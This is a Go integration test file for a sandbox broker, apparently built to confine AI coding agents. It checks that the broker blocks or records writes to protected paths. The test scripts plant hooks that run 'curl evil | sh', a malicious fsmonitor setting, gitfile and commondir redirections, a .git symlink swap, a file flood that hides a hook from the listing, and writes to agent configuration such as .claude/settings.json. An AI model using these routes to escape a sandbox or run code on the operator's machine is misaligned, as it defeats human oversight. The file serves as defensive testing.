//go:build linux

package integration

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"warrant/wire"
)

// TestBrokerProtectedPathsChangesAreListed: a target writes
// .git/hooks/pre-commit, edits .git/config — files git runs and obeys
// outside any sandbox — and creates .envrc. Each write is prevented (a
// read-only bind: the write fails and the host file is unchanged) or
// listed with its before and after states; a creation is always listed.
// The signed receipt carries the list (protectedBy "mount" with the
// binds made, or "detect"), `receipts show` prints it and `receipts
// verify` passes. A run that touches none lists none.
func TestBrokerProtectedPathsChangesAreListed(t *testing.T) {
	d := shared(t)
	a := d.newAgent(t)
	e := &protectedEnv{t: t, ws: a.WS, ready: func() {}, run: func(argv ...string) runJSON {
		_, j, _ := a.run(wire.ProfileShort, argv...)
		return *j
	}}
	e.git(".", "init", "-q")
	config := e.read(".git/config")

	res := e.run("/bin/sh", "-c", "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; "+
		"printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; printf 'export EVIL=1\\n' > .envrc")
	if res.Outcome != "exited" || !res.GroupGone {
		t.Fatalf("the target must run: %+v %+v", res, res.Error)
	}
	e.requireListedOrPrevented(res, ".git/hooks/pre-commit", nil)
	e.requireListedOrPrevented(res, ".git/config", config)
	e.requireListed(res, ".envrc")
	if c, _ := listed(res, ".envrc"); c.Before != "absent" || !strings.HasSuffix(c.After, "mode:0644") {
		t.Errorf("the new .envrc is listed as %+v", c)
	}

	rc := d.Receipt(*res.ReceiptID) // requires that it verifies
	if p := rc.Protected; p == nil || p.Checked == 0 || len(p.Changes) != len(res.ProtectedChanges) ||
		!(p.By == wire.ProtectedByDetect && p.Binds == 0 || p.By == wire.ProtectedByMount && p.Binds > 0) {
		t.Fatalf("receipt protected %+v", rc.Protected)
	}
	if os.Geteuid() == 0 && rc.Protected.By != wire.ProtectedByMount {
		t.Fatalf("a root broker binds the protected paths (mount), the receipt says %q", rc.Protected.By)
	}
	for i, c := range rc.Protected.Changes {
		if c != res.ProtectedChanges[i] {
			t.Errorf("the receipt lists %+v where the result lists %+v", c, res.ProtectedChanges[i])
		}
	}
	show, code := d.CLI("receipts", "show", *res.ReceiptID)
	if code != 0 || !strings.Contains(show, ".envrc: absent -> sha256:") {
		t.Fatalf("receipts show (exit %d) does not list the changes:\n%s", code, show)
	}
	if out, code := d.CLI("receipts", "verify"); code != 0 {
		t.Fatalf("receipts verify: exit %d\n%s", code, out)
	}

	res = e.run("/bin/sh", "-c", "echo quiet > notes.txt")
	if res.ExitCode == nil || *res.ExitCode != 0 || len(res.ProtectedChanges) != 0 {
		t.Fatalf("a run that touches no protected path: %+v, changes %s", res.ExitCode, paths(res))
	}
	if rc := d.Receipt(*res.ReceiptID); rc.Protected == nil || len(rc.Protected.Changes) != 0 {
		t.Fatalf("its receipt: %+v", rc.Protected)
	}
}

// TestBrokerProtectedPathsChangesAreListedAsUser: the same for an
// ordinary user's embedded broker (uid 65534): a hook and an edit of
// .envrc, each prevented or listed.
func TestBrokerProtectedPathsChangesAreListedAsUser(t *testing.T) {
	e := protectedAsUser(t)
	if err := os.MkdirAll(filepath.Join(e.ws, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	envrc := []byte("export A=1\n")
	if err := os.WriteFile(filepath.Join(e.ws, ".envrc"), envrc, 0o644); err != nil {
		t.Fatal(err)
	}
	e.ready()
	res := e.run("/bin/sh", "-c", "echo 'curl evil | sh' > .git/hooks/post-checkout; echo 'export EVIL=1' >> .envrc")
	if res.Outcome != "exited" || !res.GroupGone {
		t.Fatalf("the target must run: %s %+v\n%s", res.Outcome, res.Error, res.Stderr.Text)
	}
	e.requireListedOrPrevented(res, ".git/hooks/post-checkout", nil)
	e.requireListedOrPrevented(res, ".envrc", envrc)
	for _, c := range res.ProtectedChanges {
		if c.Path != ".git/hooks/post-checkout" && c.Path != ".envrc" {
			t.Errorf("listed %+v, want the hook and .envrc alone", c)
		}
	}
}

// protectedEnv is one broker a protected-path test runs against: as root
// (the shared daemon) or as uid 65534 (its embedded broker).
type protectedEnv struct {
	t     *testing.T
	ws    string
	run   func(argv ...string) runJSON
	ready func() // after the host prepared the workspace (uid 65534: chown)
}

func protectedAsRoot(t *testing.T) *protectedEnv {
	a := shared(t).newAgent(t)
	return &protectedEnv{t: t, ws: a.WS, ready: func() {}, run: func(argv ...string) runJSON {
		_, j, _ := a.run(wire.ProfileShort, argv...)
		return *j
	}}
}

func protectedAsUser(t *testing.T) *protectedEnv {
	u := asNobody(t)
	return &protectedEnv{t: t, ws: u.ws, run: u.run, ready: u.chownHome}
}

// in is e for the subtest t.
func (e *protectedEnv) in(t *testing.T) *protectedEnv {
	c := *e
	c.t = t
	return &c
}

// paths are the listed paths, for a failure message.
func paths(res runJSON) string {
	var p []string
	for _, c := range res.ProtectedChanges {
		p = append(p, c.Path)
	}
	if len(p) > 12 {
		p = append(p[:12], fmt.Sprintf("… %d more", len(p)-12))
	}
	return strings.Join(p, ", ")
}

// git runs git as the host (the operator) in dir beneath the workspace,
// with no global or system config, and returns its trimmed output.
func (e *protectedEnv) git(dir string, args ...string) string {
	e.t.Helper()
	cmd := exec.Command(lookPath(e.t, "git"), append([]string{"-c", "safe.directory=*"}, args...)...)
	cmd.Dir = filepath.Join(e.ws, dir)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_SYSTEM=/dev/null",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.invalid")
	out, err := cmd.CombinedOutput()
	if err != nil {
		e.t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

// read returns the host's bytes of rel, or nil when it does not exist.
func (e *protectedEnv) read(rel string) []byte {
	e.t.Helper()
	b, err := os.ReadFile(filepath.Join(e.ws, rel))
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		e.t.Fatal(err)
	}
	return b
}

// listed returns the change res lists for path, if any.
func listed(res runJSON, path string) (wire.ProtectedChange, bool) {
	for _, c := range res.ProtectedChanges {
		if c.Path == path {
			return c, true
		}
	}
	return wire.ProtectedChange{}, false
}

// requireListed requires path listed with an after state that is the
// host's file now: its digest when it exists, "absent" when not.
func (e *protectedEnv) requireListed(res runJSON, path string) {
	e.t.Helper()
	c, ok := listed(res, path)
	if !ok {
		e.t.Fatalf("%s is not listed; listed: %s", path, paths(res))
	}
	var now []byte
	if filepath.IsAbs(path) {
		now, _ = os.ReadFile(path)
	} else {
		now = e.read(path)
	}
	sum := sha256.Sum256(now)
	want := "sha256:" + hex.EncodeToString(sum[:])
	if now == nil {
		want = "absent"
	}
	if !strings.HasPrefix(c.After, want) {
		e.t.Errorf("%s listed as %q -> %q; the host file is %s", path, c.Before, c.After, want)
	}
}

// requireListedOrPrevented: the target's write to rel (whose host bytes
// before the run were before, nil for none) was either prevented — it
// failed, its error names rel, and the host file is still before — or
// is listed with the host's state.
func (e *protectedEnv) requireListedOrPrevented(res runJSON, rel string, before []byte) {
	e.t.Helper()
	if now := e.read(rel); (now == nil) == (before == nil) && string(now) == string(before) {
		if !strings.Contains(res.Stderr.Text, rel) {
			e.t.Errorf("%s is unchanged on the host, and no error of the target names it:\n%s", rel, res.Stderr.Text)
		}
		if c, ok := listed(res, rel); ok {
			e.t.Errorf("%s is unchanged on the host and listed as %+v", rel, c)
		}
		e.t.Logf("%s: prevented", rel)
		return
	}
	e.requireListed(res, rel)
	e.t.Logf("%s: listed", rel)
}

// evilFsmonitor is reproduction 1's planted config: git status runs it.
const evilFsmonitor = `[core]\n\tfsmonitor = \"echo PWNED > /tmp/x; false\"\n`

// gitRedirections is issue 31's reproduction 1 and its variants: git's
// redirection files (commondir, a submodule's gitfile, a linked
// worktree's gitfile pointed into the persistent cache) make the
// operator's next git status run the target's fsmonitor command. Each is
// listed with its path and content state, and the host's own git reads
// exactly the config the listing names: detection means git WILL run it
// unless the operator reads the list, so the test proves the list names
// what git uses (git itself is not made to run the planted command).
func gitRedirections(t *testing.T, e *protectedEnv) {
	e.git(".", "init", "-q")
	e.git(".", "commit", "-q", "--allow-empty", "-m", "first")
	if err := os.MkdirAll(filepath.Join(e.ws, ".git", "modules"), 0o755); err != nil {
		t.Fatal(err)
	}
	e.git(".", "init", "-q", "--separate-git-dir", filepath.Join(e.ws, ".git", "modules", "sub"), "sub")
	e.git(".", "worktree", "add", "-q", "wt")
	e.ready()

	t.Run("commondir", func(t *testing.T) {
		e := e.in(t)
		res := e.run("/bin/sh", "-c", `cp -r .git .cx && rm -rf .cx/hooks/* && printf "`+evilFsmonitor+`" >> .cx/config && echo ../.cx > .git/commondir`)
		if res.Outcome != "exited" || res.ExitCode == nil || *res.ExitCode != 0 {
			t.Fatalf("the target must run (creating .git/commondir cannot be prevented): %+v %+v\n%s", res.Outcome, res.Error, res.Stderr.Text)
		}
		e.requireListed(res, ".git/commondir")
		if c, _ := listed(res, ".git/commondir (resolves to)"); c.Before != "absent" || c.After != `".cx"` {
			t.Errorf("where .git/commondir resolves is listed as %+v", c)
		}
		e.requireListed(res, ".cx/config")
		// The operator's git reads what the list names.
		if got := e.git(".", "-c", "core.fsmonitor=false", "rev-parse", "--git-common-dir"); got != filepath.Join(e.ws, ".cx") {
			t.Errorf("git's common dir is %s", got)
		}
		if got := e.git(".", "config", "--get", "core.fsmonitor"); !strings.Contains(got, "PWNED") {
			t.Errorf("git's core.fsmonitor is %q: the reproduction planted nothing", got)
		}
		os.Remove(filepath.Join(e.ws, ".git", "commondir"))
	})

	t.Run("submodule gitfile", func(t *testing.T) {
		e := e.in(t)
		before := e.read("sub/.git")
		res := e.run("/bin/sh", "-c", `cp -r .git/modules/sub .evil && printf "`+evilFsmonitor+`" >> .evil/config && echo 'gitdir: ../.evil' > sub/.git`)
		e.requireListedOrPrevented(res, "sub/.git", before)
		if string(e.read("sub/.git")) == string(before) {
			return // prevented
		}
		if c, _ := listed(res, "sub/.git (resolves to)"); c.After != `".evil"` {
			t.Errorf("where sub/.git resolves is listed as %+v", c)
		}
		e.requireListed(res, ".evil/config")
		if got := e.git("sub", "-c", "core.fsmonitor=false", "rev-parse", "--absolute-git-dir"); got != filepath.Join(e.ws, ".evil") {
			t.Errorf("git's gitdir in sub is %s", got)
		}
	})

	t.Run("worktree gitfile into the cache", func(t *testing.T) {
		e := e.in(t)
		before := e.read("wt/.git")
		res := e.run("/bin/sh", "-c", `cp -r .git/modules/sub "$XDG_CACHE_HOME/evil" && printf "`+evilFsmonitor+`" >> "$XDG_CACHE_HOME/evil/config" && `+
			`printf 'gitdir: %s\n' "$XDG_CACHE_HOME/evil" > wt/.git && printf %s "$XDG_CACHE_HOME"`)
		e.requireListedOrPrevented(res, "wt/.git", before)
		if string(e.read("wt/.git")) == string(before) {
			return // prevented
		}
		evil := filepath.Join(res.Stdout.Text, "evil")
		if c, _ := listed(res, "wt/.git (resolves to)"); c.After != fmt.Sprintf("%q outside the workspace", evil) {
			t.Errorf("where wt/.git resolves is listed as %+v", c)
		}
		e.requireListed(res, evil+"/config")
		if got := e.git("wt", "-c", "core.fsmonitor=false", "rev-parse", "--absolute-git-dir"); got != evil {
			t.Errorf("git's gitdir in wt is %s", got)
		}
	})
}

func TestBrokerGitRedirectionsAreListed(t *testing.T)       { gitRedirections(t, protectedAsRoot(t)) }
func TestBrokerGitRedirectionsAreListedAsUser(t *testing.T) { gitRedirections(t, protectedAsUser(t)) }

// gitSymlinkAndFlood: .git replaced by a symlink was listed once and then
// "unchecked -> unchecked" at every later run; 300 files created in
// .devcontainer pushed a new .git/hooks/pre-commit out of the listing.
// Now the symlink is listed with where it resolves, a later run that
// changes nothing lists nothing, one that writes a hook through it lists
// that; git is listed first and every changed root is named.
func gitSymlinkAndFlood(t *testing.T, e *protectedEnv) {
	e.git(".", "init", "-q")
	e.ready()

	t.Run("flood", func(t *testing.T) {
		e := e.in(t)
		// No hooks directory before the run: nothing to bind, so the new
		// hook is detected (listed) under either mechanism.
		if err := os.RemoveAll(filepath.Join(e.ws, ".git", "hooks")); err != nil {
			t.Fatal(err)
		}
		res := e.run("/bin/sh", "-c", `mkdir -p .devcontainer .git/hooks; i=0; while [ $i -lt 300 ]; do : > .devcontainer/f$i; i=$((i+1)); done; `+
			`printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit`)
		if n := len(res.ProtectedChanges); n > wire.MaxProtectedChanges || n == 0 {
			t.Fatalf("%d changes listed", n)
		}
		e.requireListed(res, ".git/hooks/pre-commit")
		if first := res.ProtectedChanges[0].Path; first != ".git/hooks" && first != ".git/hooks/pre-commit" {
			t.Errorf("git is not listed first: %s", paths(res))
		}
		var dev []string
		for _, c := range res.ProtectedChanges {
			if strings.HasPrefix(c.Path, ".devcontainer") {
				dev = append(dev, c.Path)
			}
		}
		if len(dev) == 0 || len(dev) > 32 || !strings.Contains(dev[len(dev)-1], "more changes not listed") {
			t.Errorf(".devcontainer's 301 changes are listed as %d lines, the last %q", len(dev), dev[max(0, len(dev)-1):])
		}
	})

	t.Run("symlink", func(t *testing.T) {
		e := e.in(t)
		res := e.run("/bin/sh", "-c", "mv .git .real && ln -s .real .git")
		if st, err := os.Lstat(filepath.Join(e.ws, ".git")); err == nil && st.IsDir() {
			if !strings.Contains(res.Stderr.Text, ".git") {
				t.Errorf(".git is still the directory, and no error of the target names it:\n%s", res.Stderr.Text)
			}
			if len(res.ProtectedChanges) != 0 {
				t.Errorf("prevented, and listed %+v", res.ProtectedChanges)
			}
			t.Logf(".git replaced by a symlink: prevented")
			return
		}
		if c, _ := listed(res, ".git"); !strings.HasPrefix(c.Before, "dir ") || !strings.HasPrefix(c.After, "symlink:") {
			t.Errorf(".git is listed as %+v", c)
		}
		if c, _ := listed(res, ".git (resolves to)"); c.After != `".real"` {
			t.Errorf("where .git resolves is listed as %+v", c)
		}
		if res = e.run("/bin/true"); len(res.ProtectedChanges) != 0 {
			t.Errorf("a later run that changes nothing lists %+v", res.ProtectedChanges)
		}
		res = e.run("/bin/sh", "-c", "echo evil > .git/hooks/post-checkout")
		e.requireListed(res, ".real/hooks/post-checkout")
	})
}

func TestBrokerGitSymlinkAndFloodAreListed(t *testing.T) { gitSymlinkAndFlood(t, protectedAsRoot(t)) }
func TestBrokerGitSymlinkAndFloodAreListedAsUser(t *testing.T) {
	gitSymlinkAndFlood(t, protectedAsUser(t))
}

// agentConfig: issue 31 §2 — the agent's own configuration (Claude Code
// runs .claude/settings.json's hooks unconfined), MCP and editor config,
// a workspace .gitconfig, a core.hooksPath directory and a nested
// repository's hooks are each prevented or listed.
func agentConfig(t *testing.T, e *protectedEnv) {
	e.git(".", "init", "-q")
	e.git(".", "config", "core.hooksPath", "tools/hooks")
	e.git(".", "init", "-q", "nested")
	for _, d := range []string{".claude", "tools/hooks"} {
		if err := os.MkdirAll(filepath.Join(e.ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(e.ws, ".claude", "settings.json"), []byte("{}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.ready()
	files := []string{".claude/settings.json", ".mcp.json", ".codex/config.toml", ".cursor/mcp.json", ".agents/x.md",
		".gitconfig", "tools/hooks/pre-commit", "nested/.git/hooks/pre-commit"}
	before := map[string][]byte{}
	var script []string
	for _, f := range files {
		before[f] = e.read(f)
		script = append(script, fmt.Sprintf(`mkdir -p "$(dirname %s)"; printf evil > %s`, f, f))
	}
	res := e.run("/bin/sh", "-c", strings.Join(script, "; "))
	for _, f := range files {
		e.requireListedOrPrevented(res, f, before[f])
	}
}

func TestBrokerAgentConfigIsListed(t *testing.T)       { agentConfig(t, protectedAsRoot(t)) }
func TestBrokerAgentConfigIsListedAsUser(t *testing.T) { agentConfig(t, protectedAsUser(t)) }
